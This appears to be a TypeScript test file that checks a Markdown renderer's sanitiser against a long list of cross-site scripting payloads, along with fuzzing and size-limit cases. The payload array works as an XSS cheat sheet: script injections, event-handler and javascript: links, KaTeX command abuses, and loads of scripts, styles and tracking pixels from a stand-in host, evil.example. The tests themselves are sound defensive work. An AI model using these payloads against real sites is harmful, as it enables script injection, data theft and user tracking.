import fc from 'fast-check'
import type { Root } from 'hast'
import { describe, expect, test } from 'vitest'
import { elementsOf, plainText } from './decorate-tree'
import { renderMarkdown } from './render-markdown'
import { SAFE_ATTRIBUTES, SAFE_TAGS } from './safe-output.fixture'

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.png">',
  '<IMG SRC=`javascript:alert(1)`>',
  '<img srcset="https://evil.example/a 2x" src=x>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><use href="https://evil.example/a.svg#x"/></svg>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src="https://evil.example/x.swf">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<video src="https://evil.example/v" autoplay onloadstart=alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<div style="background:url(https://evil.example/b)">x</div>',
  '<a href="javascript:alert(1)">x</a>',
  '<a name="location" id="cookie">clobber</a>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '</p></div></main><script>alert(1)</script>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](java&Tab;script:alert&lpar;1&rpar;)',
  '[x](&#106;avascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://evil.example/1)',
  '[x](view-source:javascript:alert(1))',
  '[x](//evil.example)',
  '[x](/api/datasets)',
  '[x](?text=source)',
  '[x](#turn-1)',
  '[x](\\\\evil.example\\share)',
  '[x](https://evil.example "onmouseover=alert(1) \\"")',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '![x](https://evil.example/pixel.png)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x][r]\n\n[r]: https://evil.example/pixel.png',
  '[![x](https://evil.example/p.png)](javascript:alert(1))',
  '![x](https://evil.example/"onerror="alert(1))',
  '```"><script>alert(1)</script>\ncode\n```',
  '```language-x onload=alert(1)\ncode\n```',
  '`<script>alert(1)</script>`',
  '$\\href{javascript:alert(1)}{x}$',
  '$\\url{javascript:alert(1)}$',
  '$\\includegraphics{https://evil.example/p.png}$',
  '$\\htmlStyle{background:url(https://evil.example/p)}{x}$',
  '$\\htmlData{onclick=alert(1)}{x}$ $\\htmlId{turn-1}{x}$ $\\htmlClass{x}{y}$',
  '$<script>alert(1)</script>$ \\(\\text{<img src=x onerror=alert(1)>}\\)',
  '$$\\color{red;background:url(https://evil.example/p)}x$$',
  '$\\color{url(https://evil.example/p)}x$ $\\textcolor{expression(alert(1))}{x}$',
  '$\\def\\x{\\x\\x}\\x$ $\\newcommand{\\a}{\\a\\a}\\a$',
  '```math\n\\href{javascript:alert(1)}{x}\n```',
  'x[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: note',
  'x[^turn-1]\n\n[^turn-1]: <b onclick=alert(1)>note</b>',
  '|<script>|[x](javascript:1)|\n|-|-|\n|<img src=x onerror=alert(1)>|![p](https://evil.example/p)|',
  '- [ ] <input autofocus onfocus=alert(1)>',
  '# <h1 onclick=alert(1)> {#cookie}',
  '\u202Etxt.exe [x](https://evil.example\u202E)',
  'https://evil.example/<script>alert(1)</script>',
  'www.evil.example" onmouseover="alert(1)',
  '"onmouseover=alert(1)@evil.example',
]

describe('hostile text', () => {
  test.each(PAYLOADS)('%j does nothing and loads nothing', (payload) => {
    expectHarmless(renderMarkdown(payload, { idPrefix: 'turn-1-a-' }).tree, 'turn-1-a-')
    expectHarmless(
      renderMarkdown(`> - ${payload.replaceAll('\n', '\n>   ')}\n\nend`, { idPrefix: 'p-' }).tree,
      'p-',
    )
  })

  test('HTML is shown as it was written', () => {
    // Marks of Markdown inside a tag are still read as marks, and letters say enough.
    const letters = (text: string) => text.replaceAll(/[^a-z<]/gi, '')
    for (const html of PAYLOADS.filter((payload) => /^<(?!javascript|data)/.test(payload))) {
      expect(letters(plainText(renderMarkdown(html).tree))).toContain(letters(html).slice(0, 30))
    }
  })

  test('any string is rendered without an error, and harmlessly', () => {
    const bits = [
      '<',
      '>',
      '[',
      ']',
      '(',
      ')',
      '!',
      '*',
      '_',
      '`',
      '$',
      '\\(',
      '\\]',
      '\n',
      '    ',
      '|',
      '-|',
      '~',
      '#',
      '```',
      '$$',
      'javascript:',
      'https://e.x/',
      'on=',
      '"',
      "'",
      '&#x',
      '\0',
      '\uD800',
      '\uFDD0',
      '\uFDD10',
      '\u202E',
      '\\frac{',
      '}',
      '[^1]',
      '[^1]: ',
      '<br>',
      '<script>',
      '1. ',
      '- [ ] ',
      'data:',
      '\t',
      '\r',
      'א',
      '中',
      '😀',
    ]
    const soup = fc.array(
      fc.oneof({ weight: 5, arbitrary: fc.constantFrom(...bits) }, fc.string({ unit: 'binary' })),
      { maxLength: 60 },
    )
    fc.assert(
      fc.property(soup, (pieces) =>
        expectHarmless(renderMarkdown(pieces.join(''), { idPrefix: 'x-' }).tree, 'x-'),
      ),
      { numRuns: 400 },
    )
  })

  test.each([
    ['quotes', '>'.repeat(10_000)],
    ['spaced quotes', '> '.repeat(10_000)],
    ['brackets', '['.repeat(10_000)],
    ['lists in a line', '- '.repeat(10_000)],
    ['emphasis', `${'*a '.repeat(5_000)}${'a* '.repeat(5_000)}`],
    ['closing brackets', ']'.repeat(20_000)],
    ['setext headings', 'a\n=\n'.repeat(10_000)],
    ['a table that would grow', `|${'a|'.repeat(1_000)}\n|${'-|'.repeat(1_000)}\n${'|\n'.repeat(5_000)}`],
    ['length', 'x'.repeat(40_001)],
  ])('too many %s come back as the text, with the reason', (_, text) => {
    const { tree, plainBecause } = renderMarkdown(text)
    expect(plainBecause).toMatch(/^(it|its|one) /)
    expect(plainText(tree)).toBe(text)
    expect([...elementsOf(tree)].length).toBe(1)
  })

  test.each([
    ['links to one long address', `[a]: https://e.x/${'y'.repeat(1_900)}\n\n${'[a]\n\n'.repeat(6_000)}`],
    ['formulas', '$a$ '.repeat(9_000)],
    ['nested formulas', `$${'\\sqrt'.repeat(600)}x$ $$${'{'.repeat(900)}x${'}'.repeat(900)}$$`],
    ['footnote references', `[^a]: x\n\n${'[^a]'.repeat(9_000)}`],
  ])('the output of many %s is bounded by the input', (_, text) => {
    const html = JSON.stringify(renderMarkdown(text).tree).length
    expect(html).toBeLessThan(8_000_000)
  })

  test('NUL and lone surrogates become the replacement character', () => {
    expect(plainText(renderMarkdown('a\0b \uD800 c \uDC00').tree)).toBe('a\uFFFDb \uFFFD c \uFFFD')
  })
})

function expectHarmless(tree: Root, idPrefix: string): void {
  for (const { tagName, properties } of elementsOf(tree)) {
    expect(SAFE_TAGS).toContain(tagName)
    for (const [name, value] of Object.entries(properties)) {
      expect(SAFE_ATTRIBUTES, `${tagName} ${name}`).toContain(name)
      if (name === 'style') expect(String(value)).not.toMatch(/url|expression|import|position:\s*fixed/i)
      if (name === 'id') expect(String(value).startsWith(idPrefix)).toBe(true)
      if (name === 'href')
        expect(String(value)).toMatch(
          value?.toString().startsWith('#') ? `#${idPrefix}fn` : /^(https?:\/\/|mailto:)/,
        )
    }
    if (tagName === 'a' && !String(properties.href).startsWith('#')) {
      expect(properties).toMatchObject({ rel: ['noopener', 'noreferrer', 'nofollow'], target: '_blank' })
    }
  }
}
